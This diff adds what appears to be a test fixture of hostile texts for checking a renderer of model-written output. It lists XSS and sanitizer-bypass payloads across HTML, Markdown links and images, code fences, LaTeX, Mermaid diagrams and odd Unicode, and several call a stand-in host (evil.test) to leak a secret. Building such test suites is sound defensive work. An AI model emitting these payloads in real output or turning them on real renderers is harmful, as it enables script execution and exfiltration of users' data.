@@ -1,0 +1,141 @@
+/** Texts a model may be made to write. Each tries to run a script, to call home, or to break out of where it is shown. */
+
+const RUN = "ranAScript(1)"
+const HOME = "https://evil.test/x?q=secret"
+
+const html = [
+    `<script>${RUN}</script>`,
+    `<img src=x onerror=${RUN}>`,
+    `<svg onload=${RUN}></svg>`,
+    `<svg><script>${RUN}</script></svg>`,
+    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+    `<iframe src="${HOME}"></iframe>`,
+    `<object data="${HOME}"></object><embed src="${HOME}">`,
+    `<link rel=stylesheet href="${HOME}">`,
+    `<style>@import url("${HOME}"); body{background:url(${HOME})}</style>`,
+    `<base href="${HOME}">`,
+    `<meta http-equiv=refresh content="0;url=${HOME}">`,
+    `<form action="${HOME}"><input autofocus onfocus=${RUN}><button>x</button></form>`,
+    `<video src="${HOME}" onerror=${RUN}></video><audio src="${HOME}">`,
+    `<details open ontoggle=${RUN}>x</details>`,
+    `<body onload=${RUN}>`,
+    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
+    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
+    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+    `<template><img src=x onerror=${RUN}></template>`,
+    `<a href="javascript:${RUN}">x</a>`,
+    `<div data-controller="reply" data-action="click->copy#copy">x</div>`,
+    `<form id="composer"><input name=attributes><input name=nodeName>`,
+    `<p style="background:url(${HOME})">x</p>`,
+    `<!--><img src=x onerror=${RUN}>-->`,
+    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
+    `<turbo-stream action="append" target="thread"><template><img src=x onerror=${RUN}></template></turbo-stream>`,
+    `<turbo-frame src="/logout"></turbo-frame>`,
+    `</div></article><script>${RUN}</script>`,
+    `</textarea><script>${RUN}</script>`,
+]
+
+const links = [
+    `[x](javascript:${RUN})`,
+    `[x](JaVaScRiPt:${RUN})`,
+    `[x](java\nscript:${RUN})`,
+    `[x](&#106;avascript:${RUN})`,
+    `[x](&#x6A;&#x61;vascript&colon;${RUN})`,
+    `[x](\u0001javascript:${RUN})`,
+    `[x](data:text/html,<script>${RUN}</script>)`,
+    `[x](vbscript:msgbox)`,
+    `[x](file:///etc/passwd)`,
+    `[x](blob:${HOME})`,
+    `[x](//evil.test/x)`,
+    `[x](\\\\evil.test/x)`,
+    `[x](https:evil.test)`,
+    `[x](https://allowed.test@evil.test/)`,
+    `[x](https://allowed.test:pw@allowed.test/)`,
+    `[x](https://allowed.test.evil.test/)`,
+    `[x](https://аllowed.test/)`,
+    `[x](${HOME} "t\\" onmouseover=${RUN} x=\\"")`,
+    `[x]: javascript:${RUN}\n\n[x]`,
+    `[x][1]\n\ntext\n\n[1]: javascript:${RUN}\n`,
+    `[x][1]\n\ntext\n\n[1]: ${HOME} "<img src=x onerror=${RUN}>"\n`,
+    `<javascript:${RUN}>`,
+    `<${HOME}>`,
+    `${HOME}"onmouseover="${RUN}`,
+    `https://evil.test/<script>${RUN}</script>`,
+    `[<img src=x onerror=${RUN}>](${HOME})`,
+    `[![x](${HOME})](${HOME})`,
+    `[a](<javascript:${RUN}>)`,
+]
+
+const images = [
+    `![x](${HOME})`,
+    `![x][1]\n\n[1]: ${HOME}`,
+    `![${HOME}]\n\n[${HOME}]: ${HOME}`,
+    `![x](//evil.test/x)`,
+    `![x](https://allowed.test/pixel?q=secret)`,
+    `![x](/oauth2/authorization/keycloak)`,
+    `![x](javascript:${RUN})`,
+    `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
+    `![" onerror="${RUN}](x)`,
+    `![x](x "\\" onerror=\\"${RUN}")`,
+    `![<script>${RUN}</script>](${HOME})`,
+    `> - ![x](${HOME})\n>   1. ![y](${HOME})`,
+    `| ![x](${HOME}) |\n|--|\n| ![y](${HOME}) |`,
+    `# ![x](${HOME})`,
+]
+
+const code = [
+    "```html\n<script>" + RUN + "</script>\n```\n",
+    "```\"><img src=x onerror=" + RUN + ">\nx\n```\n",
+    "```js onload=" + RUN + "\nx\n```\n",
+    "```constructor\nx\n```\n",
+    "```__proto__\nx\n```\n",
+    "```html\n</code></pre><img src=x onerror=" + RUN + ">\n```\n",
+    "```xml\n<![CDATA[</span><img src=x onerror=" + RUN + ">]]>\n```\n",
+    "`<img src=x onerror=" + RUN + ">`",
+    "    <script>" + RUN + "</script>\n",
+    "```php\n<?php echo '<img src=x onerror=" + RUN + ">'\n```\n",
+]
+
+const formulas = [
+    `$\\href{javascript:${RUN}}{x}$`,
+    `$\\url{${HOME}}$`,
+    `$\\includegraphics{${HOME}}$`,
+    `$\\htmlData{controller=reply}{x} \\htmlClass{a}{x} \\htmlId{composer}{x} \\htmlStyle{color:red}{x}$`,
+    `$$\\text{<img src=x onerror=${RUN}>}$$`,
+    `$<img src=x onerror=${RUN}>$`,
+    `$$\\frac{<script>${RUN}</script>$$`,
+    `\\(\\unicode{<img src=x onerror=${RUN}>}\\)`,
+    `$\\def\\x{\\x\\x}\\x$`,
+    `$\\rule{999999em}{999999em}$`,
+    `$$\n\\begin{aligned} <svg onload=${RUN}>\n$$\n`,
+]
+
+const diagrams = [
+    `graph TD\n A["<img src=x onerror=${RUN}>"] --> B\n`,
+    `graph TD\n A["<script>parent.${RUN}</script>"]\n`,
+    `graph TD\n A --> B\n click A "javascript:${RUN}"\n`,
+    `graph TD\n A --> B\n click A href "${HOME}" _top\n`,
+    `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n A["<img src=x onerror=${RUN}>"]\n`,
+    `%%{init: {"themeCSS": "@import url(${HOME}); * {background: url(${HOME})}"}}%%\ngraph TD\n A\n`,
+    `%%{init: {"fontFamily": "x; background: url(${HOME})"}}%%\ngraph TD\n A\n`,
+    `graph TD\n A\n style A fill:url(${HOME})\n`,
+    `graph TD\n A@{ img: "${HOME}", label: "x" }\n`,
+    `graph TD\n A@{ "\\u0069mg": "${HOME}", label: "x" }\n`,
+    `sequenceDiagram\n A->>B: <img src=x onerror=${RUN}>\n`,
+    `graph TD\n <img src=x onerror=${RUN}>\n`,
+    `not a diagram <script>${RUN}</script>\n`,
+].map((source) => "```mermaid\n" + source + "```\n")
+
+const shapes = [
+    "> ".repeat(150) + "deep",
+    "- ".repeat(150) + "deep",
+    "[".repeat(500),
+    "*a _b ".repeat(80),
+    "\u202Eevil\u202C \u0000 \uFFFF \uD800",
+    "a\r\nb\rc\u2028d\u2029e",
+    "event: finished\ndata: {}\n\n",
+    "| a |\n|--|\n" + "| x |\n".repeat(20),
+    "&lt;script&gt;" + RUN + "&lt;/script&gt; &#60;img src=x onerror=" + RUN + "&#62;",
+]
+
+export const hostileTexts = [...html, ...links, ...images, ...code, ...formulas, ...diagrams, ...shapes]
